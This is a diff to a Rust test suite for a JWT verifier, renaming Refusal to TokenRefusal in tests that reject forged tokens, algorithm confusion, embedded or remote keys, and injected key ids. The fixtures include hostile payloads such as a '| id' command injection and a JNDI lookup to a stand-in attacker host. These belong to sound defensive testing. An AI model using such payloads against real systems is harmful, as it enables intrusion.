@@ -4,16 +4,16 @@
 use serde_json::json;
 
 use super::super::support::*;
-use super::super::{IssuerConfig, Problem, Refusal};
+use super::super::{IssuerConfig, Problem, TokenRefusal};
 
 #[tokio::test]
 async fn foreign_key() {
     let verifier = keys_verifier(&[P256.jwk("k")]);
     accepted(&verifier, &token_of(&P256, "k")).await;
-    assert_eq!(refused(&verifier, &token_of(&Signer::new_p256(), "k")).await, Refusal::BadSignature);
+    assert_eq!(refused(&verifier, &token_of(&Signer::new_p256(), "k")).await, TokenRefusal::BadSignature);
     let foreign = Signer::Shared(b"another secret of enough bytes for HS256".to_vec());
     let forged = token(json!({"alg": "HS256"}), claims(), &foreign);
-    assert_eq!(refused(&shared_verifier(), &forged).await, Refusal::BadSignature);
+    assert_eq!(refused(&shared_verifier(), &forged).await, TokenRefusal::BadSignature);
 }
 
 #[tokio::test]
@@ -32,13 +32,13 @@ async fn kid_with_paths_or_sql() {
         "| id",
         "${jndi:ldap://evil.example/}",
     ] {
-        assert_eq!(refused(&verifier, &token_of(&P256, kid)).await, Refusal::UnknownKey, "{kid:?}");
+        assert_eq!(refused(&verifier, &token_of(&P256, kid)).await, TokenRefusal::UnknownKey, "{kid:?}");
         // A key that is empty, as a file without content would be, signs nothing either.
-        assert_eq!(refused(&verifier, &token_of(&Signer::Shared(Vec::new()), kid)).await, Refusal::UnknownKey);
+        assert_eq!(refused(&verifier, &token_of(&Signer::Shared(Vec::new()), kid)).await, TokenRefusal::UnknownKey);
     }
     for kid in [json!(1), json!(null), json!(["k"]), json!({"k": "k"})] {
         let header = json!({"alg": "ES256", "kid": kid});
-        assert!(matches!(refused(&verifier, &token(header, claims(), &P256)).await, Refusal::Malformed(_)));
+        assert!(matches!(refused(&verifier, &token(header, claims(), &P256)).await, TokenRefusal::Malformed(_)));
     }
 }
 
@@ -48,7 +48,7 @@ async fn no_kid_where_there_are_several_keys() {
     let nameless = token(header, claims(), &P256);
     accepted(&keys_verifier(&[P256.jwk("k")]), &nameless).await;
     let verifier = keys_verifier(&[P256.jwk("k"), ED25519.jwk("l")]);
-    assert_eq!(refused(&verifier, &nameless).await, Refusal::UnknownKey);
+    assert_eq!(refused(&verifier, &nameless).await, TokenRefusal::UnknownKey);
 }
 
 #[tokio::test]
@@ -56,7 +56,7 @@ async fn embedded_jwk() {
     let forger = Signer::new_p256();
     let header = json!({"alg": "ES256", "kid": "k", "jwk": forger.jwk("k"), "x5c": ["AAAA"], "x5t": "AAAA"});
     let verifier = keys_verifier(&[P256.jwk("k")]);
-    assert_eq!(refused(&verifier, &token(&header, claims(), &forger)).await, Refusal::BadSignature);
+    assert_eq!(refused(&verifier, &token(&header, claims(), &forger)).await, TokenRefusal::BadSignature);
     accepted(&verifier, &token(&header, claims(), &P256)).await;
 }
 
@@ -68,7 +68,7 @@ async fn jku_and_x5u() {
     evil.publish(&[forger.jwk("k")]);
     let header = json!({"alg": "ES256", "kid": "k", "jku": evil.url(), "x5u": evil.url()});
     let verifier = keys_verifier(&[P256.jwk("k")]);
-    assert_eq!(refused(&verifier, &token(&header, claims(), &forger)).await, Refusal::BadSignature);
+    assert_eq!(refused(&verifier, &token(&header, claims(), &forger)).await, TokenRefusal::BadSignature);
     accepted(&verifier, &token(&header, claims(), &P256)).await;
     assert_eq!(evil.fetches(), 0);
 }
